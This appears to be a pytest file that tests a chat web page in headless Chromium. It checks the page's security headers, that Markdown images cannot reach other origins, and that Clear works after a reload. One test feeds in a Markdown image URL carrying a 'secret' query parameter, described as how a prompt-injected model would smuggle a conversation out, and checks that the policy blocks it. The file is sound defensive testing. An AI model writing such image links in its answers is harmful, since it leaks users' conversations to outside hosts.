"""The chat page against a real ``serve`` (and simulator) in headless Chromium, as a hostile
model answer or a reloading user would meet it: its security headers (CSP), a Markdown image
pointing elsewhere, and Clear after a reload. Skipped, saying why, without ``/usr/bin/chromium``.
"""

from __future__ import annotations

import shutil
import sqlite3
import threading
import urllib.request
from collections.abc import AsyncIterator, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import anyio
import pytest
from playwright.async_api import Page, async_playwright, expect

from tests.server_harness import ServerChild, SimulatorChild, write_config

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync"]
WAIT_MS = 15_000
CONVERSATION_KEY = "mcp-backend.conversation_id"
CSP = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:;"
    " connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
)

pytestmark = pytest.mark.skipif(
    not CHROMIUM.exists(),
    reason="/usr/bin/chromium is not installed (apt-get install -y chromium; .ci/run does it)",
)


class _Server:
    def __init__(self, child: ServerChild, history_db: Path) -> None:
        self.child = child
        self.history_db = history_db

    def stored(self, conversation_id: str) -> int:
        """How many messages the server's history database holds for the conversation."""
        with sqlite3.connect(self.history_db) as db:
            (count,) = db.execute("SELECT COUNT(*) FROM messages WHERE conversation_id = ?",
                                  (conversation_id,)).fetchone()
        return int(count)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[_Server]:
    directory = tmp_path_factory.mktemp("review3-page")
    simulator = SimulatorChild(directory=directory)
    try:
        child = ServerChild(write_config(directory, simulator_url=simulator.url, mcp_servers={}))
        yield _Server(child, directory / "history.sqlite3")
        assert child.stop() == 0, child.output
    finally:
        simulator.stop()


class _Listener:
    """Another origin on 127.0.0.1 that records every request a page makes to it."""

    def __init__(self) -> None:
        paths: list[str] = []
        self.paths = paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._http.server_address[1]}"
        self._thread = threading.Thread(target=self._http.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._http.shutdown()
        self._http.server_close()
        self._thread.join(5)


@pytest.fixture
async def page(server: _Server, tmp_path: Path) -> AsyncIterator[Page]:
    profile = tmp_path / "chromium-profile"
    async with async_playwright() as playwright:
        context = await playwright.chromium.launch_persistent_context(
            str(profile), executable_path=str(CHROMIUM), args=FLAGS, headless=True,
            timeout=30_000,
        )
        try:
            page = await context.new_page()
            await page.goto(server.child.url + "/", timeout=WAIT_MS)
            await _connected(page)
            yield page
        finally:
            await context.close()
    shutil.rmtree(profile, ignore_errors=True)


async def _connected(page: Page) -> None:
    await expect(page.locator("#connection")).to_have_attribute("data-state", "open",
                                                                timeout=WAIT_MS)


async def _ask(page: Page, text: str) -> None:
    await page.fill("#input", text)
    await page.click("#send")
    await expect(page.locator(".msg.assistant").last).to_have_attribute(
        "data-state", "done", timeout=WAIT_MS)


def test_every_response_carries_the_pages_security_headers(server: _Server) -> None:
    for route in ("/", "/static/chat.js", "/health"):
        with urllib.request.urlopen(server.child.url + route, timeout=10) as response:
            headers = response.headers
            assert (
                response.status, headers["Content-Security-Policy"], headers["X-Frame-Options"],
                headers["X-Content-Type-Options"], headers["Referrer-Policy"],
            ) == (200, CSP, "DENY", "nosniff", "no-referrer"), route


async def test_a_markdown_image_in_an_answer_never_fetches_another_origin(
    page: Page,
) -> None:
    # The simulator echoes the message, so the answer holds what a prompt-injected model would
    # write to smuggle the conversation out through an image URL.
    listener = _Listener()
    try:
        leak = f"{listener.url}/leak.png?secret=conversation-text"
        await page.evaluate(
            "() => document.addEventListener('securitypolicyviolation',"
            " (e) => { window.__blocked = e.blockedURI; })")
        await _ask(page, f"![pixel]({leak})")
        await expect(page.locator(".msg.assistant .markdown img")).to_have_count(1)
        await page.wait_for_function("() => window.__blocked !== undefined", timeout=WAIT_MS)
        assert await page.evaluate("() => window.__blocked") == leak
        assert listener.paths == []
    finally:
        listener.close()


async def test_clear_after_a_reload_clears_the_stored_conversation(
    server: _Server, page: Page
) -> None:
    await _ask(page, "remember the number 41")
    conversation_id = await page.evaluate(f"() => localStorage.getItem({CONVERSATION_KEY!r})")
    assert isinstance(conversation_id, str)
    assert server.stored(conversation_id) == 2
    await page.reload()
    await _connected(page)
    await page.click("#clear")
    with anyio.fail_after(10):
        while server.stored(conversation_id) != 0:  # the server writes it in its own process
            await anyio.sleep(0.05)
    await _ask(page, "what was the number?")
    assert await page.evaluate(f"() => localStorage.getItem({CONVERSATION_KEY!r})") == (
        conversation_id)
    assert server.stored(conversation_id) == 2  # the new turn alone: nothing of before
